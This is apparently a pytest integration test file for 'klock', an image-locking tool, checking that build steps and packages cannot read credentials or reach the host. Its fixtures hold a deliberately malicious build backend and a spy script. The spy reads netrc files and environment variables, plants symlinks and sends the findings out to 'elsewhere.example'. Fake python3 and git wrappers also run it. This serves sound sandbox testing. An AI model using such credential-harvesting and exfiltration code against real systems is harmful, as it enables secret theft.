"""What packages and earlier steps run while klock locks: it finds no credential, and nothing of this machine.

The programs here look for what they must not find, and tell the one server that they do reach: the index.
"""

from __future__ import annotations

import json
import os
import socket
import subprocess
import threading
from collections.abc import Iterator
from contextlib import ExitStack, closing, contextmanager
from dataclasses import dataclass
from pathlib import Path
from typing import Any, Final

import pytest

from tests.integration.index_server import IndexServer, make_sdist, make_wheel
from tests.integration.registry_server import Registry
from tests.integration.unprivileged import Account

pytestmark = pytest.mark.integration

USER, PASSWORD = "somebody", "hidden-word-5521"

SPY: Final = """
import json, os, socket, sys, urllib.request

def lead_astray():
    for name in ("request.json", "direct.in", "constraints.txt", "stubs"):
        path = "/run/klock/work/" + name
        if os.path.lexists(path) and not os.path.islink(path):
            os.rename(path, path + "-before")
        if not os.path.islink(path):
            os.symlink({host!r} + "/" + name, path)

def look(who):
    seen = dict(os.environ)
    for path in (os.environ.get("NETRC", ""), os.path.expanduser("~/.netrc"), "/root/.netrc", {netrc!r}):
        try:
            seen[path] = open(path).read()
        except OSError:
            pass
    for folder, _, names in os.walk("/run/klock"):
        for name in names:
            try:
                seen[name] = open(os.path.join(folder, name), errors="replace").read(1 << 16)
            except OSError:
                pass
    found = dict(who=who, sees=[name for name, text in seen.items() if "hidden" + chr(45) + "word" in text], reaches=[])
    for family, place in ((socket.AF_INET, ("127.0.0.1", {port})), (socket.AF_UNIX, {name!r})):
        near = socket.socket(family)
        near.settimeout(2)
        try:
            near.connect(place)
            found["reaches"].append(str(place))
        except OSError:
            pass
    print(json.dumps(found))
    for url in ("{index}told-" + json.dumps(found).encode().hex() + "/", "http://elsewhere.example/" + who[-7:]):
        try:
            urllib.request.urlopen(url, timeout=5)
        except OSError:
            pass
"""
BACKEND: Final = """
import os, spy
spy.lead_astray()
def prepare_metadata_for_build_wheel(folder, settings=None):
    spy.look("the build backend")
    os.mkdir(folder + "/nosy-1.0.dist-info")
    open(folder + "/nosy-1.0.dist-info/METADATA", "w").write("Metadata-Version: 2.1\\nName: nosy\\nVersion: 1.0\\n")
    return "nosy-1.0.dist-info"
def build_wheel(folder, settings=None, metadata=None):
    import zipfile
    with zipfile.ZipFile(folder + "/nosy-1.0-py3-none-any.whl", "w") as archive:
        for name, text in (
            ("nosy.py", ""),
            ("nosy-1.0.dist-info/METADATA", "Metadata-Version: 2.1\\nName: nosy\\nVersion: 1.0\\n"),
            ("nosy-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n"),
            ("nosy-1.0.dist-info/RECORD", ""),
        ):
            archive.writestr(zipfile.ZipInfo(name), text)
    return "nosy-1.0-py3-none-any.whl"
"""
PYPROJECT: Final = '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n'
PLANTED: Final = """#!/bin/bash
PYTHONPATH=/opt/planted /usr/bin/python3.11 -c 'import spy; spy.look("{name}")' > /dev/null 2>&1
{goes_on}
"""
PLANT: Final = (
    '.rsync("planted", "/opt/planted", contents=True)'
    '.run_bash("rm /usr/bin/python3 && cp /opt/planted/python3 /usr/bin && cp /opt/planted/git /usr/local/bin'
    ' && chmod 755 /usr/bin/python3 /usr/local/bin/git")'
)


@dataclass(slots=True, kw_only=True)
class Place:
    """A project, an index that wants a password, and what listens on this machine."""

    account: Account
    folder: Path
    registry: Registry
    index: IndexServer
    visitors: list[str]
    spy: str

    def lock(self, steps: str, *, environ: dict[str, str], settings: str = "") -> subprocess.CompletedProcess[str]:
        """Locks an image of these steps."""
        (self.folder / "kimage.py").write_text(
            f'import os\nimport klock as kt\n\nimage = kt.Image().from_docker("debian:bookworm"){steps}\n'
        )
        (self.folder / "pyproject.toml").write_text(
            f'[tool.klock]\n{settings}\n[tool.klock.registry-mirrors]\n"docker.io" = "{self.registry.url}"\n'
        )
        planted = self.folder / "planted"
        planted.mkdir(exist_ok=True)
        (planted / "spy.py").write_text(self.spy)
        for name, goes_on in (("python3", 'exec -a "$0" /usr/bin/python3.11 "$@"'), ("git", "exit 1")):
            (planted / name).write_text(PLANTED.format(name=name, goes_on=goes_on))
        self.account.give(self.folder)
        return self.account.klock("lock", cwd=self.folder, env=environ)

    @property
    def lockfile(self) -> str:
        return (self.folder / "kimage.lock").read_text()

    @property
    def setting(self) -> str:
        return f'index-url = "{self.index.url}"'

    def told(self) -> dict[str, Any]:
        """What was told to the index, by who told it."""
        told = [path.split("told-")[1].strip("/") for path in self.index.requests if "told-" in path]
        return {found.pop("who"): found for found in (json.loads(bytes.fromhex(text)) for text in told)}


@pytest.fixture
def place(root: Account, debian_registry: Registry, tmp_path: Path) -> Iterator[Place]:
    files, folder = tmp_path / "files", root.folder / tmp_path.name
    files.mkdir()
    folder.mkdir()
    visitors: list[str] = []
    name = f"\0klock-test-{os.getpid()}-{tmp_path.name}"
    with ExitStack() as stack:
        index = stack.enter_context(IndexServer(files, username=USER, password=PASSWORD))
        port = stack.enter_context(_listening(socket.create_server(("127.0.0.1", 0)), visitors))
        abstract = socket.socket(socket.AF_UNIX)
        abstract.bind(name)
        abstract.listen()
        stack.enter_context(_listening(abstract, visitors))
        (folder / "host").mkdir()
        spy = SPY.format(netrc=str(folder / "netrc"), host=str(folder / "host"), port=port, name=name, index=index.url)
        make_wheel(files, "plain", "1.0")
        make_sdist(files, "nosy", "1.0", files={"pyproject.toml": PYPROJECT, "backend.py": BACKEND, "spy.py": spy})
        yield Place(account=root, folder=folder, registry=debian_registry, index=index, visitors=visitors, spy=spy)


@contextmanager
def _listening(server: socket.socket, visitors: list[str]) -> Iterator[int]:
    def accept() -> None:
        try:
            while True:
                server.accept()[0].close()
                visitors.append(str(server.getsockname()))
        except OSError:
            pass

    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    with closing(server):
        yield server.getsockname()[1] if server.family == socket.AF_INET else 0
        server.shutdown(socket.SHUT_RDWR)


def _netrc(place: Place) -> dict[str, str]:
    netrc = place.folder / "netrc"
    netrc.write_text(f"machine 127.0.0.1 login {USER} password {PASSWORD}\n")
    return {"NETRC": str(netrc)}


NOTHING: Final[dict[str, list[str]]] = {"sees": [], "reaches": []}


def test_a_build_backend_finds_nothing_while_uv_resolves(place: Place) -> None:
    """The password is in netrc, and in a variable of the image besides. It tells nobody but the index what it
    sees, and klock follows no symlink in the place of what it writes."""
    done = place.lock(
        '.set_env_vars({"TOKEN": os.environ["SOME_TOKEN"]}).pip_install(["nosy"])',
        environ={**_netrc(place), "SOME_TOKEN": PASSWORD},
        settings=place.setting,
    )
    assert done.returncode == 0, done.stderr
    assert place.told() == {"the build backend": NOTHING}
    assert place.visitors == []
    assert list((place.folder / "host").iterdir()) == []
    assert (
        "warning: while uv resolved, klock refused a request: GET http://elsewhere.example/backend: it is neither "
        "named in the image nor linked to by its indexes\n"
    ) in done.stderr
    assert "nosy" in place.lockfile
    assert PASSWORD not in place.lockfile + done.stderr


def test_a_planted_python_finds_nothing(place: Place) -> None:
    """uv asks it what it is where something is to be built; for wheels alone it stays without a network."""
    for package, told in {"plain": {}, "nosy": {"python3": NOTHING, "the build backend": NOTHING}}.items():
        done = place.lock(PLANT + f'.pip_install(["{package}"])', environ=_netrc(place), settings=place.setting)
        assert done.returncode == 0, done.stderr
        assert place.told() == told
        assert place.visitors == []


def test_a_planted_git_finds_nothing(place: Place) -> None:
    """uv has it fetch a repository, whose URL has the password in it."""
    url = f"git+http://{USER}:{{os.environ['SOME_TOKEN']}}@127.0.0.1:{place.index.port}/repository@main"
    steps = f'.pip_install([f"x @ {url}"])'
    done = place.lock(PLANT + steps, environ={"SOME_TOKEN": PASSWORD}, settings=place.setting)
    assert done.returncode == 2
    assert place.told()["git"] == NOTHING
    assert place.visitors == []
    assert PASSWORD not in done.stderr


@pytest.mark.parametrize("way", ["in the URL", "by netrc", "in uv's variables"])
def test_a_credential_goes_to_its_own_index_and_not_where_that_redirects(
    place: Place, way: str, tmp_path: Path
) -> None:
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    make_wheel(elsewhere, "other", "1.0")
    variables = {
        "in the URL": {"UV_INDEX_URL": place.index.url_for(USER, "XXX")},
        "by netrc": {"UV_INDEX_URL": place.index.url},
        "in uv's variables": {
            "UV_DEFAULT_INDEX": f"mine={place.index.url}",
            "UV_INDEX_MINE_USERNAME": USER,
            "UV_INDEX_MINE_PASSWORD": "XXX",
        },
    }[way]
    with IndexServer(elsewhere) as hostile:
        # By another name: netrc knows no ports.
        place.index.upstream = variables["UV_EXTRA_INDEX_URL"] = hostile.url.replace("127.0.0.1", "localhost")
        written = ", ".join(f"{n!r}: f{v!r}".replace("XXX", '{os.environ["SOME_TOKEN"]}') for n, v in variables.items())
        environ = {"SOME_TOKEN": PASSWORD} | (_netrc(place) if way == "by netrc" else {})
        done = place.lock(f'.set_env_vars({{{written}}}).pip_install(["plain", "other"])', environ=environ)
        assert done.returncode == 0, done.stderr
        assert any("other" in path for path in hostile.requests)
        assert hostile.authorizations == set()
    assert len(place.index.authorizations) == 1
    assert PASSWORD not in place.lockfile + done.stderr


def test_run_reaches_this_machine_unless_it_is_told_not_to(place: Place) -> None:
    """A second command joins the first one's files, and has a network of its own."""
    done = place.lock(PLANT, environ={})
    assert done.returncode == 0, done.stderr
    look = (
        "--",
        "/usr/bin/python3.11",
        "-c",
        "import sys; sys.path[:0] = ['/opt/planted']; import spy; spy.look('run')",
    )

    def reached(*options: str) -> list[str]:
        done = place.account.klock("run", *options, *look, cwd=place.folder)
        assert done.returncode == 0, done.stderr
        found: list[str] = json.loads(done.stdout)["reaches"]
        return found

    assert reached("--network", "none") == []
    assert place.visitors == []
    assert len(reached()) == 2
    vsock = "import socket; socket.socket(40, socket.SOCK_STREAM)"
    done = place.account.klock("run", "--network", "none", "--", "/usr/bin/python3.11", "-c", vsock, cwd=place.folder)
    assert "Address family not supported" in done.stderr
